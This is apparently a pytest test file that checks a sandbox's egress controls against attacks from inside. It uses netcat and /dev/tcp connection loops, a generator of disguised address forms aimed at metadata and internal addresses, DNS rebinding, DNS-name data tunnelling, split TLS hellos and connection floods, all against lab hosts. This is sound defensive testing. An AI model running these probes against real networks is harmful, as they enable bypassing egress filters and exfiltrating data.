# SPDX-License-Identifier: Apache-2.0
"""Attacks on egress from inside, under policies that allow as much as they can

What is expected comes from the wire, as in test_egress.py.  `make egress-sweep` has the sizes that the threat model asks for.
"""
import ipaddress
import json
import os
import random
import socket
import struct
import subprocess
import time

import cay
import lab
import pytest
import world
from cay import wait_for
from conftest import tiny
from test_egress import API, DB, LAN, METADATA, PLAIN, allow, box, client_hello, decisions, dial, left, node  # noqa: F401

FULL = os.environ.get("CAY_FULL")
FLIPS, LABELS, DIALS = (10000, 10000, 100000) if FULL else (150, 1000, 600)
CARRIER, LOCAL6 = "100.64.0.1", "fd00:ec2::254"
HOSTS = [(API, 443), (DB, 5432), (PLAIN, 80), (METADATA, 80), (LAN, 80), (CARRIER, 80), (LOCAL6, 80)]
ZONE = {"api.example.com": [API], "db.example.com": [DB], "plain.example.com": [PLAIN], "evil.test": [API],
        "turns.example.com": [PLAIN, LAN, METADATA, lab.NODE, "127.0.0.1", CARRIER, "0.0.0.0"]}
EVERYTHING = {"rules": [{"action": "allow", "to": to, "ports": ["1-65535"]} for to in ("*", "0.0.0.0/0")]}


@pytest.fixture(scope="module")
def net():
    with lab.Lab(HOSTS, dict(ZONE)) as internet:
        yield internet


@pytest.fixture(scope="module")
def servers():
    """The node's own servers, on each of its addresses."""
    listening = []
    for interface in json.loads(subprocess.run(["ip", "-j", "address"], check=True, capture_output=True, text=True).stdout):
        for address in interface["addr_info"]:
            family = socket.AF_INET6 if address["family"] == "inet6" else socket.AF_INET
            s = socket.socket(family, socket.SOCK_STREAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind((address["local"], 80))
            s.listen()
            s.setblocking(False)
            listening.append(s)
    yield listening
    for s in listening:
        s.close()


def nobody_came(servers):
    for s in servers:
        with pytest.raises(BlockingIOError):
            s.accept()
    return True


def forms(address):
    """Ways to write an address that some reader somewhere takes for it."""
    n = int(ipaddress.ip_address(address))
    a, b, c, d = address.split(".")
    wide = address.translate(str.maketrans("0123456789.", "０１２３４５６７８９．"))
    yield from (address, str(n), hex(n), oct(n).replace("o", ""), f"{a}.{int(b) << 16 | int(c) << 8 | int(d)}", f"{a}.{b}.{int(c) << 8 | int(d)}")
    yield from (".".join(f"0{int(x):o}" for x in (a, b, c, d)), ".".join(hex(int(x)) for x in (a, b, c, d)), f"{a}.{b}.{int(c):#x}.{int(d):#o}".replace("o", ""))
    yield from (address + ".", f"[{address}]", f"user@{address}", f"{address}\r\n", f"{address}%00", f"{address}/", wide, f"::ffff:{address}", f"::{address}")
    yield from (str(ipaddress.IPv6Address((0x64ff9b << 96) | n)), str(ipaddress.IPv6Address((0x2002 << 112) | (n << 80) | 1)), f"[::ffff:{address}]")


@pytest.mark.parametrize("address", [METADATA, LAN, lab.NODE])
def test_an_address_in_disguise(node, net, box, servers, address):
    """NET-02, NET-03"""
    tried = list(forms(address))
    assert len(tried) >= 20
    one = box(EVERYTHING)
    script = 'for h; do busybox nc -w 1 "$h" 80 </dev/null; bash -c \'exec 3<>"/dev/tcp/$1/80" && head -c 1 <&3\' - "$h"; done 2>/dev/null'
    assert node.exec(one, ["sh", "-c", script, "-", *tried], timeout_s=240).text == ""
    assert left(net) == set() and net.connections() == [] and net.asked() == [] and nobody_came(servers)
    assert dial(node, one, PLAIN, 80)[0].startswith(f"this is {PLAIN}")  # a public address is allowed


def test_hosts_that_no_policy_opens(node, net, box, servers):
    """NET-08: each address of the node and of its networks"""
    one = box(EVERYTHING)
    own = [s.getsockname()[0] for s in servers]
    targets = [METADATA, LAN, CARRIER, LOCAL6, lab.NODE, "192.0.0.1", "0.0.0.0", "255.255.255.255", "224.0.0.1", *own]
    script = 'for h; do busybox nc -w 1 "$h" 80 </dev/null; done 2>/dev/null'
    assert node.exec(one, ["sh", "-c", script, "-", *targets], timeout_s=120).text == ""
    assert left(net) == set() and net.connections() == [] and nobody_came(servers)


def test_addresses_that_change_between_check_and_connect(node, net, box, servers):
    """NET-04: each question has another answer, and most are not public"""
    one = box(EVERYTHING)
    for _ in range(max(1, FLIPS // 500)):
        script = f"for i in $(seq {min(FLIPS, 500)}); do echo x | busybox nc -w 1 turns.example.com 80; busybox usleep 10000; done 2>/dev/null | grep -c {PLAIN}"
        node.exec(one, ["sh", "-c", script], timeout_s=300)
        assert left(net) <= {(PLAIN, 80)} and nobody_came(servers)
        assert {a for a, *_ in net.connections()} == {PLAIN}  # that one was reached
    assert len(net.asked()) >= FLIPS


def question(name, kind):
    labels = b"".join(bytes([len(one)]) + one for one in name) + b"\0"
    return struct.pack(">HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)


def test_no_name_that_is_denied_leaves_the_node(node, net, box):
    """NET-07: random names of up to 253 bytes, of every type, to any server and port"""
    kinds = [1, 28, 16, 10, 5, 15, 33, 65, 255]
    words = random.Random(7)

    def name():
        room, labels = words.randint(1, 240), []
        while room > 0:
            labels.append(bytes(words.choices(b"abcdefghijklmnopqrstuvwxyz0123456789-_", k=min(63, room))))
            room -= 64
        return [*labels, b"evil", b"test"]

    files = [cay.file(f"questions/{i}", question(name(), words.choice(kinds))) for i in range(LABELS)]
    node.image_import("questions", tiny([*world.bash(), cay.directory("questions"), *files]))
    one = box(allow("db.example.com", ports=["1-65535"]), "questions")
    script = "n=0; for q in /questions/*; do cat $q > /dev/udp/192.0.0.1/53; cat $q > /dev/udp/8.8.8.8/53; n=$((n + 1)); done; echo $n"
    assert node.exec(one, ["bash", "-c", script], timeout_s=600).text == f"{LABELS}\n"
    assert net.asked() == [] and left(net) == set()
    got = dial(node, one, "db.example.com", 5432, "x")[0]
    wait_for("an answer", lambda: got or dial(node, one, "db.example.com", 5432, "x")[0], 30)  # it asked as often as it may


def test_names_below_a_wildcard_leave_the_node_slowly(node, net, box):
    """NET-07b: what a name carries out below a domain that is allowed cannot be kept inside; how much is bounded (SANDBOX_QUESTIONS_PER_S)

    A flood of names that carry data: the name server gets no more than a burst and the rate, each below that domain, and a neighbour's
    question is answered meanwhile."""
    flood = [question([b"%032x" % random.getrandbits(128), b"example", b"com"], 1) for _ in range(3 * LABELS)]
    node.image_import("flood", tiny([*world.bash(), cay.directory("questions"), *[cay.file(f"questions/{i}", q) for i, q in enumerate(flood)]]))
    one, other = box(allow("*.example.com", ports=[5432]), "flood"), box(allow("db.example.com", ports=[5432]))
    began = time.monotonic()
    script = "for i in 0 1 2 3 4 5 6 7 8 9; do for q in /questions/*$i; do cat $q > /dev/udp/192.0.0.1/53; done & done; wait; echo sent"
    job = node.exec_detached(one, ["bash", "-c", script])
    assert dial(node, other, "db.example.com", 5432)[0] == f"this is {DB} port 5432\n"
    wait_for("its end", lambda: node.exec_output(one, job) == b"sent\n", 600)
    took = time.monotonic() - began
    names = {name for name, *_ in net.asked()} - {"db.example.com"}
    assert names and all(name.endswith(".example.com") for name in names)
    assert len(names) <= 400 + 200 * (took + 1), (len(names), took)
    print(f"{len(names)} of {3 * LABELS} names in {took:.1f} s")


def records(hello, size):
    """The same hello in records of this size."""
    body = hello[5:]
    return b"".join(b"\x16\x03\x01" + struct.pack(">H", len(body[i:i + size])) + body[i:i + size] for i in range(0, len(body), size))


@pytest.mark.parametrize("size", [1, 5, 64, None])
def test_a_hello_in_pieces(node, net, box, size):
    """NET-05: the name is found in pieces too, and compared"""
    one = box(allow("api.example.com"))
    for name, passes in (("evil.test", False), ("api.example.com", True)):
        hello = client_hello(name)
        sent = records(hello, size) if size else hello
        node.open("PUT", f"/v1/sandboxes/{one}/files/content?path=/tmp/hello", sent).read()
        node.exec(one, ["sh", "-c", "dd if=/tmp/hello bs=1 2>/dev/null | busybox nc -w 5 api.example.com 443"], timeout_s=40)
        seen = net.connections()
        assert left(net) == ({(API, 443)} if passes else set()) and bool(seen) == passes
        assert not passes or (seen[0][2] and sent.startswith(seen[0][2]))


def quantile(times, of):
    return sorted(times)[min(int(of * len(times)), len(times) - 1)]


def connect_times(node, one, n):
    """Of n connections, one after another, in seconds; each must succeed."""
    times = []
    for _ in range(n):
        begun = time.monotonic()
        assert dial(node, one, "db.example.com", 5432, "x")[0].endswith("x")
        times.append(time.monotonic() - begun)
    return times


def test_a_flood_of_connections_leaves_a_neighbour_alone(node, net, box):
    """NET-11: one sandbox dials as often as it can, and has no more than its share; a neighbour connects in at most twice the time

    The flood is paused and resumed in turn, so that both times are of the same minute."""
    flood, other = box(allow("plain.example.com", ports=[80])), box(allow("db.example.com", ports=[5432]))
    script = f'for i in $(seq {DIALS // 4}); do exec {{fd}}<>/dev/tcp/plain.example.com/80 || sleep 0.02; done 2>/dev/null; sleep 600'
    for _ in range(4):
        node.exec_detached(flood, ["bash", "-c", script])
    alone, beside, rounds = [], [], 20 if FULL else 4
    for i in range(rounds):
        wait_for("the flood", lambda i=i: node.call("GET", f"/v1/sandboxes/{flood}/usage")["egress"]["total"] >= (i + 1) * DIALS // 2 // rounds, 1200)
        beside += connect_times(node, other, 10)
        node.call("POST", f"/v1/sandboxes/{flood}/pause")
        alone += connect_times(node, other, 10)
        node.call("POST", f"/v1/sandboxes/{flood}/resume")
    used = node.call("GET", f"/v1/sandboxes/{flood}/usage")["egress"]
    assert used["open"] <= 256, used
    ratios = [quantile(beside, of) / quantile(alone, of) for of in (0.5, 0.99)]
    print(f"a neighbour connects in {ratios[0]:.2f} of its time alone, the slowest in {ratios[1]:.2f}, beside {used['total']} connections")
    assert ratios[0] <= 2 and (not FULL or ratios[1] <= 2), ratios
    wait_for("a record", lambda: any(d.get("target") == flood for d in decisions(node)), 30)
